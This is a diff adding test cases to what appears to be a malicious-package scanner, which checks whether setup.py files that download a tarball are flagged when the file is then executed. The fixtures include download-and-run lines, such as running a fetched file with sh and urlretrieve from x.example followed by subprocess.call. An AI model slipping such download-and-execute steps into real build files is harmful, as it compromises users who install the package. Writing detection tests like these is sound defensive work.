@@ -124,6 +124,26 @@ describe('a setup.py that downloads a build input (python-parasail 1.3.3, fixtur
     expect(outcome.holdVerdict).toBeDefined();
   });
 
+  // parasail's urlretrieve line replaced by the other ways a download is saved: edits.
+  const savedBy = (lines: string[], run: string): string => {
+    const download = '                    name,hdrs = urlretrieve(url, tarball)\n';
+    expect(PARASAIL).toContain(download);
+    expect(PARASAIL).toContain('            untar(tarball)\n');
+    return PARASAIL.replace(download, lines.map((l) => `                    ${l}\n`).join('')).replace('            untar(tarball)\n', `            ${run}\n`);
+  };
+  it.each([
+    ['Path.write_bytes', ['pathlib.Path(tarball).write_bytes(requests.get(url).content)']],
+    ['wget.download', ['wget.download(url, out=tarball)']],
+    ['a streamed response written chunk by chunk', ['r = requests.get(url, stream=True)', "with open(tarball, 'wb') as f:", '    for chunk in r.iter_content(chunk_size=8192):', '        f.write(chunk)']],
+  ])('edited to save the tarball by %s: unpacked, not held; handed to a shell, held', (_name, lines) => {
+    const unpacked = outcomeOf(check, sdistOnly(savedBy(lines, 'untar(tarball)')));
+    expect(unpacked.messageId).toBe('sdist-commands');
+    expect(unpacked.holdVerdict).toBeUndefined();
+    const run = outcomeOf(check, sdistOnly(savedBy(lines, 'subprocess.call(["sh", tarball])')));
+    expect(run).toMatchObject({ score: 10, messageId: 'sdist-suspicious', data: { flowFlags: ['download-and-run'], patternFlags: [], flags: ['download-and-run'] } });
+    expect(run.holdVerdict).toBeDefined();
+  });
+
   it('edit of gsutil: a binary downloaded and run (the whole-text reading\'s own test case) is still held', () => {
     const text = `${real('gsutil.setup.py')}\nimport urllib.request, subprocess\nurllib.request.urlretrieve("http://x.example/a", "/tmp/a")\nsubprocess.call(["/tmp/a"])\n`;
     expect(outcomeOf(check, sdistOnly(text))).toMatchObject({ messageId: 'sdist-suspicious', data: { flowFlags: ['download-and-run'], flags: ['download-and-run'] } });
